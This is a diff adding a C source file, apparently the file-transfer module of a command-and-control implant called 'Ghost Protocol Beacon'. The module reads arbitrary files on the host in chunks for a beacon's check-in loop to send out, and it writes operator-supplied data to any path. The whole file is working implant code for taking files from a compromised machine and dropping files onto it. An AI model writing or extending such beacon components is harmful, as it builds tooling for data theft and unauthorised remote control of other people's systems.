@@ -0,0 +1,356 @@
+/*
+ * Ghost Protocol Beacon - File Transfer Implementation
+ * Streams downloads to the check-in loop in offset-addressed chunks and writes uploads in place
+ */
+
+#include "file_transfer.h"
+#include "command_registry.h"
+#include "json.h"
+#include "records.h"
+#include "thread_sync.h"
+#include "worker_pool.h"
+
+#ifndef _WIN32
+#include <errno.h>
+#include <fcntl.h>
+#include <sys/stat.h>
+#endif
+
+#ifndef O_CLOEXEC
+#define O_CLOEXEC 0
+#endif
+
+static file_transfer_t g_transfers[TRANSFER_MAX_STREAMS];
+static sync_mutex_t g_lock;
+static int g_started = 0;
+
+int transfer_init(void) {
+    memset(g_transfers, 0, sizeof(g_transfers));
+    sync_mutex_init(&g_lock);
+    g_started = 1;
+    return 0;
+}
+
+static void close_transfer(file_transfer_t* transfer) {
+#ifdef _WIN32
+    CloseHandle(transfer->file);
+#else
+    close(transfer->fd);
+#endif
+    memset(transfer, 0, sizeof(file_transfer_t));
+}
+
+// Positional read, so a chunk goes straight from the page cache into its record
+static long read_at(file_transfer_t* transfer, char* buffer, size_t length, long long offset) {
+    size_t total = 0;
+    
+    while (total < length) {
+#ifdef _WIN32
+        OVERLAPPED position;
+        DWORD bytes_read = 0;
+        memset(&position, 0, sizeof(position));
+        position.Offset = (DWORD)((offset + total) & 0xFFFFFFFF);
+        position.OffsetHigh = (DWORD)((unsigned long long)(offset + total) >> 32);
+        if (!ReadFile(transfer->file, buffer + total, (DWORD)(length - total), &bytes_read, &position)) {
+            return -1;
+        }
+        long got = (long)bytes_read;
+#else
+        ssize_t got = pread(transfer->fd, buffer + total, length - total, (off_t)(offset + total));
+        if (got < 0 && errno == EINTR) {
+            continue;
+        }
+        if (got < 0) {
+            return -1;
+        }
+#endif
+        if (got == 0) {
+            break;
+        }
+        total += (size_t)got;
+    }
+    return (long)total;
+}
+
+static int write_at(const char* path, const char* data, size_t length, long long offset, int final) {
+#ifdef _WIN32
+    HANDLE file = CreateFileA(path, GENERIC_WRITE, FILE_SHARE_READ, NULL, OPEN_ALWAYS,
+                              FILE_ATTRIBUTE_NORMAL, NULL);
+    if (file == INVALID_HANDLE_VALUE) {
+        return -1;
+    }
+    
+    int status = 0;
+    size_t total = 0;
+    while (status == 0 && total < length) {
+        OVERLAPPED position;
+        DWORD written = 0;
+        memset(&position, 0, sizeof(position));
+        position.Offset = (DWORD)((offset + total) & 0xFFFFFFFF);
+        position.OffsetHigh = (DWORD)((unsigned long long)(offset + total) >> 32);
+        if (!WriteFile(file, data + total, (DWORD)(length - total), &written, &position) || written == 0) {
+            status = -1;
+        }
+        total += written;
+    }
+    
+    // The last chunk also cuts off whatever an older, longer file left behind
+    if (status == 0 && final) {
+        LARGE_INTEGER end;
+        end.QuadPart = offset + (long long)length;
+        if (!SetFilePointerEx(file, end, NULL, FILE_BEGIN) || !SetEndOfFile(file)) {
+            status = -1;
+        }
+    }
+    CloseHandle(file);
+    return status;
+#else
+    int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
+    if (fd < 0) {
+        return -1;
+    }
+    
+    int status = 0;
+    size_t total = 0;
+    while (status == 0 && total < length) {
+        ssize_t written = pwrite(fd, data + total, length - total, (off_t)(offset + total));
+        if (written < 0 && errno == EINTR) {
+            continue;
+        }
+        if (written <= 0) {
+            status = -1;
+        } else {
+            total += (size_t)written;
+        }
+    }
+    
+    // The last chunk also cuts off whatever an older, longer file left behind
+    if (status == 0 && final && ftruncate(fd, (off_t)(offset + (long long)length)) != 0) {
+        status = -1;
+    }
+    if (close(fd) != 0) {
+        status = -1;
+    }
+    return status;
+#endif
+}
+
+// Registers the download; its chunks then go out through transfer_collect
+static int open_download(const char* command_id, const char* path, long long offset,
+                         arena_t* arena, result_record_t** result) {
+    if (!g_started) {
+        result_record_printf(arena, result, "Error: File transfers are not available");
+        return 0;
+    }
+    
+    file_transfer_t opened;
+    memset(&opened, 0, sizeof(opened));
+#ifdef _WIN32
+    LARGE_INTEGER size;
+    opened.file = CreateFileA(path, GENERIC_READ, FILE_SHARE_READ | FILE_SHARE_WRITE, NULL, OPEN_EXISTING,
+                              FILE_FLAG_SEQUENTIAL_SCAN, NULL);
+    if (opened.file == INVALID_HANDLE_VALUE) {
+        result_record_printf(arena, result, "Error: Cannot open %s", path);
+        return 0;
+    }
+    if (!GetFileSizeEx(opened.file, &size)) {
+        CloseHandle(opened.file);
+        result_record_printf(arena, result, "Error: Cannot read %s", path);
+        return 0;
+    }
+    opened.size = size.QuadPart;
+#else
+    struct stat info;
+    opened.fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (opened.fd < 0) {
+        result_record_printf(arena, result, "Error: Cannot open %s: %s", path, strerror(errno));
+        return 0;
+    }
+    if (fstat(opened.fd, &info) != 0 || !S_ISREG(info.st_mode)) {
+        close(opened.fd);
+        result_record_printf(arena, result, "Error: %s is not a regular file", path);
+        return 0;
+    }
+    opened.size = (long long)info.st_size;
+#if defined(POSIX_FADV_SEQUENTIAL)
+    // Ask for aggressive read-ahead so chunk reads rarely wait on the disk
+    posix_fadvise(opened.fd, (off_t)offset, 0, POSIX_FADV_SEQUENTIAL);
+#endif
+#endif
+
+    if (offset < 0 || offset > opened.size) {
+        result_record_printf(arena, result, "Error: Offset %lld is past the end of %s (%lld bytes)",
+                             offset, path, opened.size);
+        close_transfer(&opened);
+        return 0;
+    }
+    opened.offset = offset;
+    strncpy(opened.command_id, command_id, sizeof(opened.command_id) - 1);
+    opened.in_use = 1;
+    
+    file_transfer_t* transfer = NULL;
+    sync_lock(&g_lock);
+    for (int i = 0; i < TRANSFER_MAX_STREAMS; i++) {
+        if (!g_transfers[i].in_use) {
+            transfer = &g_transfers[i];
+            *transfer = opened;
+            break;
+        }
+    }
+    sync_unlock(&g_lock);
+    
+    if (!transfer) {
+        close_transfer(&opened);
+        result_record_printf(arena, result, "Error: Too many transfers in progress");
+        return 0;
+    }
+    
+    (*result)->streamed = 1;
+    worker_pool_notify();
+    return 1;
+}
+
+// Writes one chunk at its offset; chunks may land in any order
+static int write_upload(const char* path, const char* args, size_t args_length, long long offset,
+                        arena_t* arena, result_record_t** result) {
+    char final[8] = "";
+    char* data = record_alloc(arena, args_length + 1);
+    if (!data) {
+        result_record_printf(arena, result, "Error: Out of memory");
+        return 0;
+    }
+    
+    long length = -1;
+    if (json_get_string(args, args_length, "data", data, args_length + 1) == 0) {
+        length = json_base64_decode(data, strlen(data), data);
+    }
+    json_get_string(args, args_length, "final", final, sizeof(final));
+    
+    int success = 0;
+    if (length < 0 || offset < 0) {
+        result_record_printf(arena, result, "Error: Malformed upload chunk");
+    } else if (write_at(path, data, (size_t)length, offset, strcmp(final, "true") == 0) != 0) {
+        result_record_printf(arena, result, "Error: Cannot write %s", path);
+    } else {
+        result_record_printf(arena, result, "Wrote %ld bytes at offset %lld", length, offset);
+        success = 1;
+    }
+    record_free(arena, data);
+    return success;
+}
+
+// Handles {"path": ..., "offset": ...} for download, plus "data" and "final" for upload
+int execute_file_operation(const char* operation, const char* args, size_t args_length,
+                           arena_t* arena, result_record_t** result) {
+    char* path = record_alloc(arena, args_length + 1);
+    char offset_text[24] = "0";
+    if (!path) {
+        result_record_printf(arena, result, "Error: Out of memory");
+        return 0;
+    }
+    
+    int success = 0;
+    if (json_get_string(args, args_length, "path", path, args_length + 1) != 0 || path[0] == '\0') {
+        result_record_printf(arena, result, "Error: %s needs a path", operation);
+    } else {
+        json_get_string(args, args_length, "offset", offset_text, sizeof(offset_text));
+        long long offset = strtoll(offset_text, NULL, 10);
+        
+        if (strcmp(operation, "download") == 0) {
+            success = open_download(RESULT_ID(*result), path, offset, arena, result);
+        } else if (strcmp(operation, "upload") == 0) {
+            success = write_upload(path, args, args_length, offset, arena, result);
+        } else {
+            result_record_printf(arena, result, "Error: Unknown file operation %s", operation);
+        }
+    }
+    record_free(arena, path);
+    return success;
+}
+
+int command_download(const command_record_t* cmd, arena_t* arena, result_record_t** result) {
+    return execute_file_operation("download", COMMAND_ARGS(cmd), cmd->args_length, arena, result);
+}
+
+int command_upload(const command_record_t* cmd, arena_t* arena, result_record_t** result) {
+    return execute_file_operation("upload", COMMAND_ARGS(cmd), cmd->args_length, arena, result);
+}
+
+// Hands out the next chunk of each download as records in the arena
+int transfer_collect(arena_t* arena, result_record_t** results, int max_results) {
+    int count = 0;
+    
+    if (!g_started) {
+        return 0;
+    }
+    
+    sync_lock(&g_lock);
+    for (int i = 0; i < TRANSFER_MAX_STREAMS; i++) {
+        file_transfer_t* transfer = &g_transfers[i];
+        
+        while (transfer->in_use && count < max_results) {
+            long long remaining = transfer->size - transfer->offset;
+            size_t length = remaining < TRANSFER_CHUNK_SIZE ? (size_t)remaining : TRANSFER_CHUNK_SIZE;
+            result_record_t* result = result_record_create(arena, transfer->command_id, length);
+            if (!result) {
+                break;
+            }
+            
+            long got = length > 0 ? read_at(transfer, RESULT_OUTPUT(result), length, transfer->offset) : 0;
+            result->success = 1;
+            if (got < (long)length) {
+                // Shrunk or unreadable: send what was read and end the transfer as failed
+                got = got < 0 ? 0 : got;
+                transfer->size = transfer->offset + got;
+                result->success = 0;
+            }
+            RESULT_OUTPUT(result)[got] = '\0';
+            result->output_length = (unsigned int)got;
+            result->transfer = 1;
+            result->offset = transfer->offset;
+            transfer->offset += got;
+            result->final = transfer->offset == transfer->size;
+            results[count++] = result;
+            
+            if (result->final) {
+                close_transfer(transfer);
+            }
+        }
+    }
+    sync_unlock(&g_lock);
+    
+    return count;
+}
+
+// Number of downloads with a chunk ready to upload right now
+int transfer_pending(void) {
+    int pending = 0;
+    
+    if (!g_started) {
+        return 0;
+    }
+    
+    sync_lock(&g_lock);
+    for (int i = 0; i < TRANSFER_MAX_STREAMS; i++) {
+        if (g_transfers[i].in_use) {
+            pending++;
+        }
+    }
+    sync_unlock(&g_lock);
+    
+    return pending;
+}
+
+void transfer_shutdown(void) {
+    if (!g_started) {
+        return;
+    }
+    
+    sync_lock(&g_lock);
+    for (int i = 0; i < TRANSFER_MAX_STREAMS; i++) {
+        if (g_transfers[i].in_use) {
+            close_transfer(&g_transfers[i]);
+        }
+    }
+    sync_unlock(&g_lock);
+}